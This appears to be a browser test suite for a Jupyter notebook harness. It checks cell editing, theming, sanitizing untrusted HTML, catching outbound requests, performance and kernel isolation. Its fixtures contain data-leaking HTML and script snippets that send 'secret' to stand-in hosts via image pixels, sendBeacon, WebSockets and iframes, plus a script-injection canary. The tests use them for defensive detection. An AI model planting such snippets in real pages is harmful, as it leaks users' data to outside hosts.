"""The harness sees what a reader sees, and notices what must not happen."""

import time

import pytest
from playwright.sync_api import expect

from tests.browser.conftest import OpenNotebook
from tests.browser.notebook_page import TIMEOUT

STREAM = """\
import time
from IPython.display import HTML, display, update_display
display(HTML("<div class='nbclaude'><p>word 0</p></div>"), display_id="a")
for n in range(1, 600):
    time.sleep(0.05)
    update_display(HTML(f"<div class='nbclaude'><p>word {n}</p></div>"), display_id="a")
"""


def test_cells_are_run_edited_inserted_and_deleted(open_notebook: OpenNotebook) -> None:
    notebook = open_notebook(["print('one')", "print('two')", STREAM, "#md A **note**."])
    notebook.run(0)
    assert notebook.text(0).strip() == "one"
    notebook.edit(1, "print('zwei')")
    notebook.run(1)
    assert notebook.text(1).strip() == "zwei"
    assert notebook.execution_count(1) == 2
    notebook.start(2)
    expect(notebook.answer(2)).to_contain_text("word 5")
    notebook.stop()
    notebook.wait_until_idle()
    assert "KeyboardInterrupt" in notebook.text(2)
    assert "word" in notebook.text(2)
    notebook.delete(0)
    assert notebook.cell_ids() == ["cell-1", "cell-2", "cell-3"]
    notebook.insert(0, "print(get_ipython().get_parent()['metadata']['deletedCells'])")
    notebook.run(0)
    assert notebook.text(0).strip() == "['cell-0']"


def test_pictures_of_both_themes_at_two_widths(open_notebook: OpenNotebook) -> None:
    notebook = open_notebook(["#md # A heading", "print('hello')"], theme="dark")
    notebook.run(1)
    for theme in ("dark", "light"):
        if theme == "light":
            notebook.set_theme(theme)
        assert notebook.script("return document.body.dataset.jpThemeLight") == str(theme == "light").lower()
        picture = notebook.screenshot("harness")
        assert picture.name == f"harness-{theme}.png"
        assert picture.stat().st_size > 5_000
    wide = notebook.outputs(1).bounding_box()
    notebook.set_width(700)
    narrow = notebook.outputs(1).bounding_box()
    assert wide is not None
    assert narrow is not None
    assert narrow["width"] < wide["width"] - 400


def test_a_stranger_s_notebook_is_shown_sanitized(open_notebook: OpenNotebook) -> None:
    canary = "<b>bold</b><script>window.canary = 1</script>"
    notebook = open_notebook([f"from IPython.display import HTML\nHTML({canary!r})"])
    notebook.run(0)
    assert notebook.script("return window.canary") == 1
    notebook.reopen()
    assert notebook.is_trusted
    assert notebook.saved()["cells"][0]["outputs"][0]["data"]["text/html"]
    notebook.reopen(trusted=False)
    assert not notebook.is_trusted
    assert notebook.outputs(0).inner_text().strip() == "bold"
    assert notebook.script("return window.canary === undefined")


LEAKS = {
    "pixel.example": "<img src='https://pixel.example/?q=secret'>",
    "style.example": "<p style='background: url(https://style.example/)'>text</p>",
    "prefetch.example": "<link rel='prefetch' href='https://prefetch.example/'>",
    "beacon.example": "<script>navigator.sendBeacon('https://beacon.example/', 'secret')</script>",
    "socket.example": "<script>new WebSocket('wss://socket.example/')</script>",
    "frame.example": "<iframe src='http://frame.example/'></iframe>",
    "127.0.0.1:9": "<img src='http://127.0.0.1:9/other-port'>",
}


def test_whatever_leaves_the_page_is_noticed(open_notebook: OpenNotebook) -> None:
    notebook = open_notebook([f"from IPython.display import HTML\nHTML({leak!r})" for leak in LEAKS.values()])
    notebook.watch.check()
    notebook.run_all()
    deadline = time.monotonic() + TIMEOUT
    while time.monotonic() < deadline:
        missed = [host for host in LEAKS if host not in str(notebook.watch.foreign_requests)]
        if not missed:
            break
        notebook.page.wait_for_timeout(50)
    assert missed == []
    assert "CONNECT pixel.example:443" in str(notebook.watch.foreign_requests)
    with pytest.raises(AssertionError, match="requests to other hosts"):
        notebook.watch.check()
    heard = 0
    while heard != len(notebook.watch.foreign_requests):
        # What the page has tried may arrive late: it is forgotten once all is quiet.
        heard = len(notebook.watch.foreign_requests)
        notebook.page.wait_for_timeout(1_000)
    notebook.watch.forget()
    # Dialogs, popups and errors, too.
    deadline = time.monotonic() + TIMEOUT
    notebook.script("alert('canary')")
    notebook.script("setTimeout(() => { throw new Error('canary') })")
    notebook.script("window.open('about:blank')")
    watch = notebook.watch
    while not (watch.dialogs and watch.popups and watch.page_errors) and time.monotonic() < deadline:
        notebook.page.wait_for_timeout(50)
    assert watch.dialogs == ["alert: canary"]
    assert len(watch.popups) == 1
    assert watch.page_errors == ["canary"]
    watch.forget()


def test_frames_long_tasks_and_traffic_are_measured(open_notebook: OpenNotebook) -> None:
    notebook = open_notebook(["print('x' * 100_000)"])
    notebook.start_recording()
    notebook.run(0)
    busy = "const end = performance.now() + 200; while (performance.now() < end) {}"
    notebook.script(f"setTimeout(() => {{ {busy} }})")
    notebook.page.wait_for_timeout(500)
    recording = notebook.stop_recording()
    assert 100_000 < recording.websocket_bytes < 150_000
    assert any(150 < task.duration < 5_000 for task in recording.long_tasks)
    assert recording.worst_frame_gap > 100
    assert recording.frame_gap(50) < recording.worst_frame_gap / 2


def test_each_notebook_has_a_kernel_and_an_environment_of_its_own(open_notebook: OpenNotebook) -> None:
    look = "import os; print(os.environ.get('ANTHROPIC_API_KEY'), 'x' in dir()); x = 1"
    first = open_notebook([look], name="first", environment={"ANTHROPIC_API_KEY": "canary"})
    first.run(0)
    assert first.text(0).strip() == "canary False"
    second = open_notebook([look], name="second")
    second.run(0)
    assert second.text(0).strip() == "None False"
    second.restart_kernel()
    second.run(0)
    assert second.text(0).strip() == "None False"
    assert len(first.lab.kernels()) == 2
